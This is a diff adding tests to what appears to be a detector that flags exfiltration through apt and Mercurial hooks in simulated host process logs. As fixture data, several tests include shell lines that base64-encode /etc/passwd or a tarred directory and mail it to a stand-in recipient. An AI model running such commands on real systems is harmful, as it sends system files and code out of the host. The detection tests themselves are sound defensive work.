@@ -66,6 +66,49 @@ test('words of other programs that look like the -c of a shell are none, and the
   assert.ok((await told(itself.log))?.factors.includes(HOOK), 'the shell itself');
 });
 
+test('what a hook runs may have command lines of its own; what a person types into an editor of a hook is theirs', async () => {
+  const within = async (act: (hook: Process) => Process): Promise<boolean> => {
+    const { log, apt } = administrator();
+    const hook = act(apt.run(['/bin/sh', '-c', 'something || true']));
+    hook.pipeline('/usr/bin/openssl base64', `/usr/bin/mail -s x ${TO}`);
+    log.submitted('root', TO, 40_000);
+    return (await told(log))?.factors.includes(HOOK) === true;
+  };
+  const line = ['/bin/sh', '-c', `openssl base64 < /etc/passwd | mail -s x ${TO}`];
+  const script = (above: Process, by: string) => above.run('/root/bin/after', { by });
+  assert.ok(await within(hook => hook.run(line)), 'a shell in a shell');
+  assert.ok(await within(hook => script(hook, '/usr/bin/perl').run(line)), 'system(3) of a script');
+  assert.ok(
+    await within(hook => script(script(hook, '/bin/bash').run(line), '/usr/bin/python3').run(line)),
+    'of several',
+  );
+  assert.ok(!(await within(hook => hook.run('/usr/bin/vim /etc/notes').run(line))), 'an editor');
+});
+
+test('a hook of version control that is a script itself, and what only has its name', async () => {
+  const committed = async (hg: string): Promise<readonly string[]> => {
+    const log = new HostLog();
+    log.deliver();
+    const commit = log.shell('dev').run(`${hg} commit -m x`, { by: '/usr/bin/python3' });
+    const hook = commit.run(['/bin/sh', '-c', `tar c . | base64 | mail -s x ${TO}`]);
+    hook.pipeline('/usr/bin/tar c .', '/usr/bin/base64', `/usr/bin/mail -s x ${TO}`);
+    log.submitted('dev', TO, 40_000);
+    const [alert] = await scanLog(log);
+    return alert?.factors.filter(({ name }) => name === HOOK).map(({ evidence }) => evidence) ?? [];
+  };
+  assert.deepEqual(await committed('/usr/bin/hg'), ['hg']);
+  assert.deepEqual(await committed('/home/dev/bin/hg'), []);
+});
+
+test("system(3) of a package's own script is no hook", async () => {
+  const { log, apt } = administrator();
+  const script = apt.run('/usr/bin/dpkg --configure -a').run('/var/lib/dpkg/info/page.postinst', { by: '/bin/sh' });
+  const line = `openssl base64 < /etc/passwd | mail -s x ${TO}`;
+  script.run(['/bin/sh', '-c', line]).pipeline('/usr/bin/openssl base64', `/usr/bin/mail -s x ${TO}`);
+  log.submitted('root', TO, 40_000);
+  assert.ok(!(await told(log))?.factors.includes(HOOK));
+});
+
 test('a hook that mails a note to the administrator is what such hooks do', async () => {
   const { log, apt } = administrator();
   apt.run(['/bin/sh', '-c', '/usr/bin/apt-listchanges --apt']).run('/usr/sbin/sendmail root@example.org');
